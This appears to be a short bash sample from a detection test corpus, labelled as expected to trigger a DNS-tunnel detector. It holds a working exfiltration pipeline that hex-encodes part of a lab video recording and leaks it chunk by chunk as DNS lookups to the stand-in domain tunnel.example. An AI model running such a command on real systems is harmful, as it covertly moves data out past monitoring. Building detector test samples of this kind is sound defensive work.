#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=dns-tunnel half=tune tool=getent seconds=20
# A recording is carried outside in names of questions, in hexadecimal.
head -c 1800 "$LAB/recordings/gate/000.mp4" | od -An -v -tx1 -w30 | tr -d " " |
	while read -r chunk; do getent ahostsv4 "$chunk.tunnel.example" >/dev/null; done
true
